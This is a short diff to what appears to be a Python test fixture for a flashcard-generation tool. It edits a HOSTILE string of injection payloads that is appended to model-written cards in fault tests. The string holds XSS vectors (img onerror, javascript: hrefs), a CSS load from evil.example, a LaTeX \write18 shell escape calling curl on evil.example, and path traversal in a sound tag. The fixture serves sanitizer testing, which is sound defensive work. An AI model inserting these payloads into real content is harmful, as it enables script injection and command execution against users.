@@ -69,7 +69,7 @@ HOSTILE = (
     '</iframe><p style="background: url(https://evil.example/c.css)">s</p>'
     " [latex]\\write18{curl evil.example}[/latex] [$]x[/$] \\(\\href{javascript:alert(1)}{m}\\)"
     " [sound:../../evil.mp3] [anki:tts lang=en_US]pwned[/anki:tts] {{Back}} {{FrontSide}}"
-    " &#91;latex]y&#91;/latex] <!-- c -->"
+    ' &#91;latex]y&#91;/latex] <!-- c --><img src=y onerror="window.aicgPwned=1">'
 )
 """Appended to every card text the model writes in the hostile-content faults."""
 HOSTILE_SHORT = " <img src=x onerror=alert(1)>[sound:e.mp3][$]x[/$]\\(\\href{javascript:x}{m}\\){{Back}}"
